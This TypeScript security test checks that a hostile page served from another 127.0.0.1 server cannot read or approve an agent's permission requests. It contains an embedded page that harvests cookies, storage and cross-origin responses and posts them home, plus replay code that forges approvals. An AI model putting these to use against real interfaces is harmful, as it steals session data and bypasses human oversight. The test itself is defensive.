import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { expect, it, onTestFinished } from 'vitest';
import { bash, scripted } from '../end-to-end/harness.ts';
import { type Got, send } from '../src/page/page.ts';
import { openShown } from './window.ts';

/** A request as another server of 127.0.0.1 gets it. */
interface Received {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * Starts another server of 127.0.0.1. Its page tries everything that a page can try from there against
 * `target`, and sends home what it learns.
 */
async function openOther(target: string) {
  const received: Received[] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request.setEncoding('utf8')) body += chunk;
    received.push({ url: request.url ?? '', headers: request.headers, body });
    response.setHeader('referrer-policy', 'unsafe-url');
    response.setHeader('set-cookie', 'other=1; Path=/');
    response.setHeader('content-type', 'text/html');
    response.end(request.url?.startsWith('/told') ? '' : pageAgainst(target));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  // listen() on a port always gives an address of this kind.
  const { port } = server.address() as AddressInfo;
  return { received, url: `http://127.0.0.1:${port}/` };
}

function pageAgainst(target: string): string {
  const own = JSON.stringify(target);
  return `<!doctype html><title>Other</title><iframe src=${own}></iframe><img src=${own}><script src=${own}></script>
<form id="form" method="post" enctype="text/plain" action=${own} target="_blank"><input name="a"></form>
<script>
const told = [];
const read = (name, get) => { try { told.push([name, String(get())]); } catch (e) { told.push([name, String(e)]); } };
read('cookie', () => document.cookie);
read('referrer', () => document.referrer);
read('name', () => window.name);
read('storage', () => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
read('frame', () => frames[0].document.body.innerHTML);
read('opener', () => opener && opener.location.href);
const paths = ['', 'api/snapshot', 'api/charts', 'api/events'];
const tries = paths.flatMap((path) => ['cors', 'no-cors'].map((mode) =>
  fetch(${own} + path, { mode, credentials: 'include' }).then((r) => r.text()).then(
    (text) => told.push([mode + ' ' + path, text]), (e) => told.push([mode + ' ' + path, String(e)]))));
Promise.all(tries).then(() => fetch('/told', { method: 'POST', body: JSON.stringify(told) }))
  .then(() => { document.title = 'Told'; });
</script>`;
}

/** Visits an address and stays until its page has tried everything. */
async function visit(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await page.waitForFunction("document.title === 'Told'");
}

/** Everything that may stand as a secret in a request: values of headers, parts of the path. */
const wordsOf = (received: Received[]): string[] => [
  ...new Set(received.flatMap((one) => JSON.stringify(one).match(/[\w-]{16,}/g) ?? [])),
];

/** Uses what was received as a program does, which sends the headers that it likes. */
async function replay(received: Received[], port: number, bases: string[], answer: Answer) {
  const origin = `http://127.0.0.1:${port}`;
  const json = { origin, 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };
  const cookies = new Set(received.map(({ headers }) => headers.cookie ?? ''));
  const words = ['', ...wordsOf(received)];
  const got: Got[] = [];
  for (const base of new Set([...bases, ...words.map((word) => `/${word}/`)])) {
    for (const cookie of cookies) {
      for (const word of words) {
        const headers = { ...json, cookie, authorization: `Bearer ${word}` };
        got.push(await send(port, `${base}api/snapshot`, { headers }));
        const change = { method: 'POST', headers, body: answer.body };
        got.push(await send(port, base + answer.path, change));
      }
    }
  }
  return got;
}

interface Answer {
  path: string;
  body: string;
}

it('another server of 127.0.0.1 gets nothing from the browser that lets it read or approve', async () => {
  const { stage, session, page } = await openShown();
  const id = await session.spawn(scripted(bash('touch allowed'), { text: 'Done.' }));
  await page.locator('.permission').waitFor();
  const asked = await stage.journaled(id, 'PERMISSION_ASKED');
  const { request_id } = asked.findLast(({ event }) => event.type === 'PERMISSION_ASKED').event
    .request;
  const own = new URL(page.url());
  const base = `${own.origin}${own.pathname}`;

  // The other server knows even the address of the page.
  const other = await openOther(base);
  const tab = await page.context().newPage();
  const paths = ['', own.pathname.slice(1), `${own.pathname.slice(1)}api/snapshot`];
  for (const path of paths) await visit(tab, other.url + path);
  await visit(tab, other.url.replace('127.0.0.1', 'localhost'));
  // From the page itself, by its address bar and as a link.
  await page.evaluate(`open(${JSON.stringify(other.url)}, '_blank')`);
  await page.evaluate(`location.href = ${JSON.stringify(other.url)}`);
  await page.waitForFunction("document.title === 'Told'");
  await delay(200);

  expect(other.received.length).toBeGreaterThan(paths.length * 2);
  const body = JSON.stringify({ decision: 'allow', input_sha256: await hashShown(page, base) });
  const port = Number(own.port);
  const answer = { path: `api/permissions/${request_id}`, body };
  const got = await replay(other.received, port, [own.pathname, '/'], answer);
  expect(got.filter(({ status }) => status === 200)).toEqual([]);
  expect(got.map(({ text }) => text).join()).not.toContain(id);
  const told = other.received.map((one) => one.body).join();
  expect(told).not.toContain(id);
  expect((await stage.journal(id)).map(({ event }) => event.type)).not.toContain(
    'ANSWER_PERMISSION',
  );
  await page.locator('.permission').waitFor();
});

async function hashShown(page: Page, base: string): Promise<string> {
  const seen = page.waitForResponse((response) => response.url().endsWith('api/snapshot'));
  await page.goto(base);
  const { workers } = await (await seen).json();
  return workers[0].requests[0].input_sha256;
}
